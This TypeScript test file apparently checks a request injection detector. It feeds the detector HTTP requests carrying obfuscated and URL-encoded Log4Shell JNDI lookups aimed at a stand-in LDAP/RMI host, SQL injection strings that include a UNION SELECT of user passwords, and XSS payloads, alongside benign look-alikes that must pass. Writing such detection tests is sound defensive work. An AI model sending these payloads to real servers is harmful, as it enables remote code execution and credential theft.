import assert from "node:assert/strict";
import { test } from "node:test";
import { injectedBy } from "./injection.ts";

const get = (address: string, ...headers: string[]) => [`GET ${address} HTTP/1.1`, "Host: pump.example", ...headers, "", ""].join("\r\n");
const post = (form: string) => `POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n${form}`;

test("a look-up is found in an address, a header and a form, encoded once or twice, and with its letters hidden", () => {
  for (const request of [
    get("/?q=${jndi:ldap://192.0.2.9/a}"),
    get("/?q=%24%7Bjndi%3Aldap%3A//192.0.2.9/a%7D"),
    get("/?q=%2524%257Bjndi%253Aldap://192.0.2.9/a%257D"),
    get("/", "User-Agent: ${${lower:j}ndi:${lower:l}dap://192.0.2.9/a}"),
    get("/", "X-Api-Version: ${${::-j}${::-n}${::-d}${::-i}:rmi://192.0.2.9/a}"),
    get("/", "X-Api-Version: ${${env:NONE:-j}ndi${env:NONE:-:}${env:NONE:-l}dap${env:NONE:-:}//192.0.2.9/a}"),
    post("name=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.9%2Fa%7D&password=x"),
  ])
    assert.deepEqual(injectedBy(request), ["lookupInjected"], request);
});

test("SQL and scripts are found where values belong", () => {
  for (const request of [
    get("/?id=1%27+and+1%3D1%23"),
    get("/?id=1'%20UNION%20SELECT%20password%20FROM%20users--"),
    get("/?id=1%20union/**/all/**/select%201"),
    post("user=admin%27+or+%271%27%3D%271&password=x"),
    get("/?id=1%3B%20waitfor%20delay%20'5'--%20"),
  ])
    assert.deepEqual(injectedBy(request), ["sqlInjected"], request);
  assert.deepEqual(injectedBy(get("/?name=%3Cscript%3Ealert(1)%3C/script%3E")), ["scriptInjected"]);
  assert.deepEqual(injectedBy(get("/?name=%3Cimg%20src=x%20onerror=alert(1)%3E")), ["scriptInjected"]);
});

test("people's names, words, quotes and other look-ups are none", () => {
  for (const request of [
    get("/?name=O%27Brien&ward=3"),
    get("/search?q=the+student+union+and+how+they+select"),
    get("/?title=%22Sense+or+sensibility%22&year=1811"),
    get("/?q=rock+%27n%27+roll+and+more"),
    get("/?price=%24%7Bamount%7D"),
    get("/", 'If-None-Match: W/"1=1"', "Cookie: a='b' or 'c'='c'"),
    get("/?describe=%3Cscripture%3E&note=1+%3C+2"),
    post("note=It%27s+5+%3D+5+or+so"),
  ])
    assert.deepEqual(injectedBy(request), [], request);
});
